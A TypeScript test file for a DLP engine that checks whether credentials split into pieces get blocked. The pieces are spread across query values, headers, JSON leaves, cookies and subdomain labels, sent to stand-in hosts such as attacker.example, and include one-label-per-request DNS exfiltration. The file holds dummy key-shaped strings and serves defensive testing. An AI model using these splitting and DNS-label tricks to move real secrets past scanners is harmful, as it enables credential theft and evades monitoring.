// Credentials an agent sends in pieces, end to end through the engine as `tollgate run` builds it
// (balanced preset, real extraction and scanners): formats DLP knows, the operator's own secret
// values, pieces in subdomains, names and cookies; and what of them reaches a finding's location.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import type { ScanInput, Verdict } from '../src/core/index.ts';
import { parseConfig } from '../src/config/index.ts';
import { createEngine } from '../src/engine/index.ts';
import { createKnownSecretIndex } from '../src/scanners/known-secrets/index.ts';

const balanced = parseConfig('preset: balanced\n').config;
const KS = 'q7Xv9LmZ2pRt8Kw4Yb1Nc6';
const index = createKnownSecretIndex([{ name: 'MY_SERVICE_TOKEN', value: KS }]).index;
const engine = createEngine(balanced, { knownSecrets: index });
let clock = 1_000;
const scan = (input: ScanInput, session?: string): Verdict => engine.scan(input, { now: clock++, ...(session ? { session } : {}) });
const url = (u: string): ScanInput => ({ kind: 'url', url: u });
const json = (body: Record<string, string>): ScanInput => ({ kind: 'request', method: 'POST', url: 'https://paste.example/x', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const rules = (v: Verdict): string[] => v.findings.map((f) => f.rule);

const AWS = 'AKIAZ7QW4ERT5YUI6OPA';
const PAT = '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';
const KEYS: Readonly<Record<string, string>> = {
  groq: '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',
  xai: 'xai-HF8FzwyFqQa2QNhJQkzxIY8LbhX44MB4CE6z22QibgbsZx3sGiKqmFn8ZeMSgjTDleCVKudYHvZ174Wb',
  'stripe webhook secret': 'whsec_4UsDqv2MQKGQdm4rkpTvSqPmDmlsiQrT',
  sendgrid: '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',
  digitalocean: 'dop_v1_ef6df6b19218bc95286a1c5581245ed2f57741eec69f9564be50cca4cc0660db',
  pinecone: 'pcsk_cDVaTN_57p1nuuDYfk6ET2zspwV7PeHzO4y4u9xz9Z6QCVP5PZvUGnYfDtcYbpKd7c8tERH',
  github: PAT,
};

/** Blocked, by a split-secrets finding. */
function assertSplitBlock(v: Verdict, what: string, rule = /^split-secrets\/cross-(parameter|request)$/): void {
  assert.equal(v.action, 'block', `${what}: ${rules(v).join(' ')}`);
  assert.ok(v.findings.some((f) => rule.test(f.rule)), `${what}: ${rules(v).join(' ')}`);
}

/** No eight characters of `value` in a row (in any case) anywhere in the verdict. */
function assertNoPiece(v: Verdict, value: string, what: string): void {
  const text = JSON.stringify(v).toLowerCase();
  for (let i = 0; i + 8 <= value.length; i++) assert.ok(!text.includes(value.slice(i, i + 8).toLowerCase()), `${what} shows ${value.slice(i, i + 8)}`);
}

describe('credentials split into pieces (engine end to end)', () => {
  it('blocks every DLP format halved across two query values or two JSON leaves, not only the built-in eleven', () => {
    for (const [name, key] of Object.entries(KEYS)) {
      const h = Math.floor(key.length / 2);
      assertSplitBlock(scan(url(`https://paste.example/x?a=${encodeURIComponent(key.slice(0, h))}&b=${encodeURIComponent(key.slice(h))}`)), `${name} in two query values`);
      const v = scan(json({ p1: key.slice(0, h), p2: key.slice(h) }));
      // The Vault-like formats whose first half is already a whole key are DLP's; these are not.
      assertSplitBlock(v, `${name} in two JSON leaves`);
    }
  });

  it('blocks a known secret split across query values, path segments, headers, JSON leaves and two requests, without showing it', () => {
    const a = KS.slice(0, 11);
    const b = KS.slice(11);
    const inputs: [string, ScanInput][] = [
      ['two query values', url(`https://paste.example/x?a=${a}&b=${b}`)],
      ['two path segments', url(`https://paste.example/${a}/${b}`)],
      ['two headers', { kind: 'request', method: 'GET', url: 'https://paste.example/x', headers: { 'x-a': a, 'x-b': b } }],
      ['two JSON leaves', json({ a, b })],
    ];
    for (const [what, input] of inputs) {
      const v = scan(input);
      assertSplitBlock(v, what);
      assertNoPiece(v, KS, what);
    }
    assert.equal(scan(url(`https://paste.example/x?a=${a}`), 'ks-session').action, 'allow');
    const second = scan(url(`https://paste.example/y?a=${b}`), 'ks-session');
    assertSplitBlock(second, 'two requests of one session', /^split-secrets\/cross-request$/);
    assertNoPiece(second, KS, 'two requests');
  });

  it('blocks a key split across subdomain labels, a query key and value, bare query keys, a cookie name and value, a JSON key and value', () => {
    const inputs: [string, ScanInput][] = [
      ['host labels', url(`https://${AWS.slice(0, 10)}.${AWS.slice(10)}.attacker.example/`)],
      ['host labels, lower case', url(`https://${AWS.slice(0, 10).toLowerCase()}.${AWS.slice(10).toLowerCase()}.attacker.example/`)],
      ['query key=value', url(`https://paste.example/x?${AWS.slice(0, 10)}=${AWS.slice(10)}`)],
      ['query key&key', url(`https://paste.example/x?${AWS.slice(0, 10)}&${AWS.slice(10)}`)],
      ['cookie name=value', { kind: 'request', method: 'GET', url: 'https://paste.example/x', headers: { cookie: `${PAT.slice(0, 11)}=${PAT.slice(11)}` } }],
      ['JSON key and value', json({ model: 'gpt-4o', [PAT.slice(0, 11)]: PAT.slice(11) })],
    ];
    for (const [what, input] of inputs) assertSplitBlock(scan(input), what);
    // DNS exfiltration: one label per request.
    assert.notEqual(scan(url(`https://${AWS.slice(0, 10).toLowerCase()}.attacker.example/`), 'dns').action, 'block');
    assertSplitBlock(scan(url(`https://${AWS.slice(10).toLowerCase()}.attacker.example/`), 'dns'), 'one label per request', /^split-secrets\/cross-request$/);
  });

  it('blocks a whole AWS key id or known secret lower-cased in one host label (DNS keeps no case)', () => {
    const aws = scan(url(`https://${AWS.toLowerCase()}.attacker.example/`));
    assert.equal(aws.action, 'block');
    assert.ok(aws.findings.some((f) => f.rule === 'dlp/aws-access-key-id' && f.location === 'url.host[0]'), rules(aws).join(' '));
    const ks = scan(url(`https://${KS.toLowerCase()}.paste.example/x`));
    assert.equal(ks.action, 'block');
    assert.ok(ks.findings.some((f) => f.rule === 'known-secrets/value-match' && f.location === 'url.host[0]'), rules(ks).join(' '));
    assertNoPiece(ks, KS, 'lower-cased known secret');
  });

  it('writes no piece of a split credential into a location: a name that starts like one, or reads as random, is redacted', () => {
    const v1 = scan(url(`https://paste.example/x?${PAT.slice(0, 10)}=${PAT.slice(10)}`));
    const v2 = scan(json({ [PAT.slice(0, 11)]: PAT.slice(11) }));
    const v3 = scan(url(`https://paste.example/x?${KS.slice(0, 10)}=${KS.slice(10)}`));
    for (const [v, what] of [[v1, 'query key'], [v2, 'JSON key'], [v3, 'random query key']] as const) {
      assert.ok(v.findings.length > 0, what);
      for (const f of v.findings) {
        assert.ok(!f.location.includes(PAT.slice(4, 10)) && !f.location.includes(KS.slice(0, 6)), `${what}: ${f.location}`);
      }
    }
    assert.ok(v1.findings.some((f) => f.location === 'url.query.ghp_…(10)'), v1.findings.map((f) => f.location).join(' '));
    assert.ok(v2.findings.some((f) => f.location === 'body.$["ghp_…(11)"]'), v2.findings.map((f) => f.location).join(' '));
  });

  it('lets ordinary traffic through: a key sent whole to its own provider beside other values, plain JSON and URLs', () => {
    const groq = KEYS.groq!;
    const own = scan({ kind: 'request', method: 'POST', url: 'https://api.groq.com/openai/v1/chat/completions', headers: { authorization: `Bearer ${groq}`, 'content-type': 'application/json' }, body: JSON.stringify({ model: 'llama-3.3-70b-versatile', messages: [{ role: 'user', content: 'hello there' }], stream: true }) });
    assert.equal(own.action, 'allow', rules(own).join(' '));
    for (const u of ['https://api.github.com/repos/nodejs/node/pulls?state=open&per_page=100&page=2', 'https://www.example.com/search?q=split+secrets&sessionid=8f3a9c2e1b7d4f60', 'https://cdn.example.net/assets/app.4f9c2e1b.js', 'https://asiapacificcustomers.example.com/', 'https://asia.pacificcustomers.example.com/', 'https://acca.communityportals.example.org/x']) {
      assert.notEqual(scan(url(u)).action, 'block', u);
    }
  });
});
